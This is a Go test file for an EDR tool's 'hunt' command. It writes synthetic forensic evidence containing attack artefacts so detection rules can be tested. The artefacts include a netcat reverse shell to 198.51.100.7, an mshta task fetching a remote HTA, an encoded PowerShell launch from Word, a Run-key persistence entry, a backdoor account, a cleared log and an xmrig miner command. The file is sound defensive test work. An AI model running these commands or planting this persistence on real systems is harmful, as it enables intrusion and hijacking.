package main

import (
	"bytes"
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/rogpeppe/go-internal/testscript"

	"github.com/aiedr/edr/internal/testneed"
	ev "github.com/aiedr/edr/tables/evidence/evidencetest"
	"github.com/aiedr/edr/tables/tablestest"
)

var huntTime = time.Date(2026, 3, 4, 5, 6, 7, 0, time.UTC)

// makeEvidence writes a folder of evidence of our own making: evidence DIR.
func makeEvidence(ts *testscript.TestScript, neg bool, args []string) {
	if neg || len(args) != 1 {
		ts.Fatalf("usage: evidence DIR")
	}
	for name, data := range evidenceFiles() {
		name = filepath.Join(ts.MkAbs(args[0]), name)
		ts.Check(os.MkdirAll(filepath.Dir(name), 0o755))
		ts.Check(os.WriteFile(name, data, 0o644))
	}
}

func evidenceFiles() map[string][]byte {
	security := func(id uint16, data ...ev.Named) ev.Event {
		return ev.Event{ID: id, Channel: "Security", Provider: "Microsoft-Windows-Security-Auditing", Computer: "pc.example", Time: huntTime, Data: data}
	}
	cleared := ev.Event{ID: 1102, Channel: "Security", Provider: "Microsoft-Windows-Eventlog", Computer: "pc.example", Time: huntTime,
		UserData: "LogFileCleared", Data: []ev.Named{ev.V("SubjectUserName", "eve")}}
	log := ev.EVTXFile(3,
		security(4624, ev.V("TargetUserName", "bob"), ev.V("LogonType", uint32(2))),
		security(4688, ev.V("SubjectUserName", "bob"), ev.V("SubjectDomainName", "PC"), ev.V("NewProcessId", ev.Hex64(0x1f4)),
			ev.V("NewProcessName", `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`), ev.V("ProcessId", ev.Hex64(0x64)),
			ev.V("CommandLine", "powershell.exe -nop -EncodedCommand SQBFAFgA"), ev.V("ParentProcessName", `C:\Program Files\Microsoft Office\WINWORD.EXE`)),
		cleared,
		security(4720, ev.V("TargetUserName", "backd00r")))
	hive := ev.HiveFile(`\SystemRoot\System32\Config\SOFTWARE`, ev.HiveKey{Name: "ROOT", Time: huntTime, Keys: []ev.HiveKey{
		{Name: "Microsoft", Time: huntTime, Keys: []ev.HiveKey{{Name: "Windows", Time: huntTime, Keys: []ev.HiveKey{{Name: "CurrentVersion", Time: huntTime, Keys: []ev.HiveKey{
			{Name: "Run", Time: huntTime, Values: []ev.HiveValue{ev.SZ("Updater", `C:\Users\Public\u.exe`)}}}}}}}}}})
	task := `<?xml version="1.0"?><Task xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"><RegistrationInfo><URI>\Nightly</URI></RegistrationInfo>
<Actions><Exec><Command>mshta</Command><Arguments>https://198.51.100.7/x.hta</Arguments></Exec></Actions></Task>`
	lines := `{"type":"process","time":"2026-03-04T05:06:07Z","name":"nc","path":"/usr/bin/nc","command":"nc -e /bin/sh 198.51.100.7 4444","user":"www-data","parent_name":"apache2"}

{"eventid":4625,"channel":"Security","TargetUserName":"admin"}
`
	return map[string][]byte{
		"Security.evtx": log, "SOFTWARE": hive, "Tasks/Nightly": []byte(task), "events.jsonl": []byte(lines),
		"damaged/cut.evtx": log[:4096+65536], "damaged/picture.evtx": []byte("\x89PNG\r\n\x1a\nxxxxxxxx"), "damaged/NTUSER.DAT": append([]byte("regf"), make([]byte, 100)...),
		"damaged/lines.json": []byte("{\"command\":\"id\"}\n{\"command\": oops}\n{\"what\":1}\n{\"command\":\"xmrig -o stratum+tcp://x:1\"}\n"),
		"damaged/notes.txt":  []byte("plain text"),
	}
}

// The rules find what they should in real logs of attacks, and the records
// that other tools wrote as JSON give the same matches as the log itself.
func TestHuntRealLogs(t *testing.T) {
	archive := filepath.Join(testneed.Shared(t, "../.."), "sigma", "regression-dev.tar.gz")
	byFile := map[string][]string{}
	for _, suffix := range []string{".evtx", ".json"} {
		dir := filepath.Dir(tablestest.Unpack(t, archive, suffix)[0])
		_ = os.Remove(filepath.Join(dir, "index.json")) // no event
		var out, errs bytes.Buffer
		if code := run(context.Background(), []string{"hunt", "-json", dir}, &out, &errs); code != 0 {
			t.Fatalf("exit code %d: %s", code, errs.String())
		}
		for line := range strings.Lines(out.String()) {
			var m struct {
				ID     string `json:"rule_id"`
				Source string
				Fields map[string]string
			}
			if err := json.Unmarshal([]byte(line), &m); err != nil {
				t.Fatalf("%v: %s", err, line)
			}
			name := strings.TrimSuffix(filepath.Base(m.Source), suffix)
			byFile[name] = append(byFile[name], m.ID)
		}
		t.Logf("%s: %s", suffix, errs.String())
	}
	if len(byFile) < 3 {
		t.Errorf("matches in %d files: %v", len(byFile), byFile)
	}
	for name, ids := range byFile {
		if n := len(ids); n%2 != 0 || strings.Join(ids[:n/2], " ") != strings.Join(ids[n/2:], " ") {
			t.Errorf("%s: the log and its JSON give other matches: %v", name, ids)
		}
	}
}
